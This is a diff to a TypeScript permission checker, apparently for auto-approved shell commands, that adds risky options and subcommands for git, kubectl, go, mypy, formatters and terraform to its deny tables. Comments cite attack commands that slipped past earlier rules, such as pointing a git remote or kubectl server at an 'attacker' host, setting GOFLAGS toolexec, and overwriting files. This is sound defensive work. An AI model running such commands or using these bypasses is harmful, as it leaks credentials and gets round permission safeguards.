@@ -41,6 +41,10 @@ const everyProgram: ProgramRisks = {
     'report-dir', 'report-filename', 'diagnostic-dir', 'tls-keylog',
     // Node's profilers write where they are told (`npm test -- --cpu-prof --cpu-prof-name=README.md` overwrote it: an outside attack).
     'cpu-prof*', 'heap-prof*', 'heapsnapshot*',
+    // What linters and formatters name their rewriting of the sources (`ruff check --fix`, `biome check --write`, `isort
+    // --overwrite-in-place`, `rubocop --autocorrect-all`), a plugin they load (`pylint --load-plugins`), and where a checker
+    // writes its reports or cache (`mypy --junit-xml README.md`): each ran unasked under a rule ending in `...` (an outside attack).
+    'fix', 'unsafe-fixes', 'write', 'in-place', 'overwrite*', 'autocorrect*', 'auto-correct*', 'fix-layout', 'load-plugins', 'junit-xml', 'cache-dir',
   ],
   short: 'o',
   why: writes,
@@ -153,13 +157,16 @@ const programs: Readonly<Record<string, ProgramRisks>> = {
   'git revert': gitCommitting,
   'git am': { short: 'iS', why: gitRuns },
   'git commit-tree': { short: 'S', why: gitRuns },
-  'git tag': { long: ['verify'], short: 'aesuv', why: gitRuns },
+  // Deleting or moving a tag changes the repository (an outside attack: `git tag -d v1.0.0`, `git tag -f v1.0.0 HEAD~5`).
+  'git tag': { long: ['verify', 'delete', 'force'], short: 'aesuvdf', why: 'runs another program (an editor or gpg) or changes the repository' },
+  // Adding or changing a remote writes .git/config (an outside attack: `git remote set-url origin https://attacker…`).
+  'git remote': { short: '', values: /^(?:add|rename|remove|rm|set-head|set-branches|set-url|prune|update)$/, why: "changes the repository's configuration" },
   // `--apply` undoes `--check` and `--stat`: the patch is applied (an outside attack wrote a file through `git apply --check ...`).
   'git apply': { long: ['apply'], short: '', why: 'applies the patch, writing files' },
   // Deleting, renaming or moving a branch, tag or stash entry changes the repository's own files under .git (an outside attack: `-D`).
   'git branch': { long: ['delete', 'move', 'copy', 'force', 'set-upstream-to', 'unset-upstream', 'edit-description'], short: 'cCdDfmMtu', why: 'changes the repository' },
-  // Each without a message opens an editor.
-  'git notes': { short: '', values: /^(add|append|edit)$/, why: gitRuns },
+  // Each without a message opens an editor; the others change the repository's notes.
+  'git notes': { short: '', values: /^(?:add|append|edit|copy|merge|remove|prune)$/, why: 'runs an editor or changes the repository' },
   npm: packageManagers,
   yarn: packageManagers,
   pnpm: packageManagers,
@@ -181,8 +188,15 @@ const programs: Readonly<Record<string, ProgramRisks>> = {
   pip: { long: ['python', 'log*'], short: '', why: 'runs another program or writes files' },
   // `-H`/`--html` opens a browser (the one named, or $BROWSER); `-C` reads another configuration file, `-P` names the pager.
   man: { long: ['html'], short: 'CHP', why: 'runs another program or reads other configuration' },
-  // A kubeconfig can name a program to run for credentials (`users[].user.exec`).
-  kubectl: { long: ['kubeconfig'], short: '', why: 'reads another configuration, which can run a program' },
+  // A kubeconfig can name a program to run for credentials (`users[].user.exec`); another server, context or user sends the
+  // kubeconfig's credentials elsewhere (an outside attack: `kubectl get pods --server=https://attacker…`).
+  kubectl: {
+    long: [
+      'kubeconfig', 'server', 'context', 'cluster', 'user', 'token', 'as', 'as-group', 'as-uid', 'certificate-authority', 'client-*', 'insecure-skip-tls-verify',
+    ],
+    short: 's',
+    why: 'reads another configuration, which can run a program, or sends its credentials to another server',
+  },
   gh: { long: ['web'], short: 'w', why: 'opens a browser' },
   make,
   gmake: make,
@@ -202,10 +216,26 @@ const programs: Readonly<Record<string, ProgramRisks>> = {
   go: {
     long: ['c', 'toolexec', 'vettool', 'modfile', 'overlay', 'coverprofile', 'cpuprofile', 'memprofile', 'blockprofile', 'mutexprofile', 'trace', 'outputdir',
       'pkgdir', 'ldflags', 'gcflags', 'asmflags', 'gccgoflags', 'gocoverdir', 'testlogfile', 'fuzzcachedir'],
-    short: '',
+    // `go env -w`/`-u` writes the user's go configuration (`GOFLAGS=-toolexec=…`: every later go command runs it), `go get -u` go.mod.
+    short: 'wu',
     singleDash: true,
     why: 'writes files or runs another program',
   },
+  // mypy writes each report where it is told (`--html-report src`), its cache too, and runs the Python named.
+  mypy: {
+    long: [
+      'html-report', 'linecount-report', 'lineprecision-report', 'any-exprs-report', 'cobertura-xml-report', 'xml-report', 'txt-report', 'xslt-*', 'python-executable',
+    ],
+    short: '',
+    why: 'writes files or runs another program',
+  },
+  // Formatters whose `-w` (gofmt, shfmt) or `-i` (clang-format) writes the file in place, and rubocop's `-a`/`-A`/`-x` correct it.
+  gofmt: { short: 'w', why: 'changes files' },
+  shfmt: { short: 'w', why: 'changes files' },
+  'clang-format': { short: 'i', why: 'changes files' },
+  rubocop: { short: 'aAx', why: 'changes files' },
+  // Options of one dash: `-write=true` writes the files `fmt -check` only checks, `-chdir` works in another folder, `-out`/`-state-out` write.
+  terraform: { long: ['write', 'chdir', 'out', 'state-out', 'backup', 'plugin-dir'], short: '', singleDash: true, why: 'writes files or works elsewhere' },
   pytest: {
     long: [
       'override-ini', 'rootdir', 'confcutdir', 'basetemp', 'junit-xml', 'debug', 'pastebin', 'result-log', 'log-file', 'cov-report', 'pdbcls', 'html',
@@ -336,6 +366,9 @@ const neverFurther = new Set([
   // A second operand is the file written (`uniq in package.json`, `xxd in out`); unzip reads `-q-l` as "not -l" and extracts; a stash
   // subcommand drops, pops or applies (an outside attack ran each under a rule ending in `...`).
   'uniq', 'xxd', 'unzip', 'git stash',
+  // A rule made to read a remote, a worktree, the go environment or a package's fields would let further words change them
+  // (`git remote set-url`, `go env -w`, `npm pkg set`: an outside attack).
+  'git worktree', 'go env', 'npm pkg',
   // Python's own modules run as programs (`python3 -m json.tool in.json out.json` overwrote out.json): an operand is written,
   // extracted into, served or opened.
   'json.tool', 'zipfile', 'tarfile', 'gzip', 'compileall', 'py_compile', 'http.server', 'webbrowser',
@@ -461,12 +494,20 @@ function isRisky(argument: string, risks: ProgramRisks, singleDash: boolean): bo
   // Dashes and underscores dropped, case folded: the tables are written in lower case with dashes. Go's test binary takes
   // `-test.coverprofile` for `-coverprofile`.
   const folded = name.toLowerCase().replace(/[-_]/g, '');
-  const given = singleDash && folded.startsWith('test.') ? folded.slice('test.'.length) : folded;
+  const unprefixed = singleDash && folded.startsWith('test.') ? folded.slice('test.'.length) : folded;
+  // An option of an option (vitest's `--coverage.reportsDirectory=src`, `--outputFile.json=x`) is judged by its own name too,
+  // and by the option it belongs to (an outside attack: dotted, they matched no table).
+  const dot = unprefixed.indexOf('.');
+  const names = dot > 0 ? [unprefixed, unprefixed.slice(0, dot), unprefixed.slice(unprefixed.lastIndexOf('.') + 1)] : [unprefixed];
   // A lone `-` (standard input) or `--` abbreviates nothing.
-  if (given === '') return false;
-  return risks.long?.some((option) => {
-    const named = option.replace(/-/g, '');
-    if (named.endsWith('*')) return given.startsWith(named.slice(0, -1)) || named.startsWith(given);
-    return singleDash ? given === named : named.startsWith(given);
-  }) === true;
+  return names.some(
+    (given) =>
+      given !== '' &&
+      risks.long?.some((option) => {
+        const named = option.replace(/-/g, '');
+        // Options of one dash are never abbreviated: `go test -a` is not `-autocorrect`.
+        if (named.endsWith('*')) return given.startsWith(named.slice(0, -1)) || (!singleDash && named.startsWith(given));
+        return singleDash ? given === named : named.startsWith(given);
+      }) === true,
+  );
 }
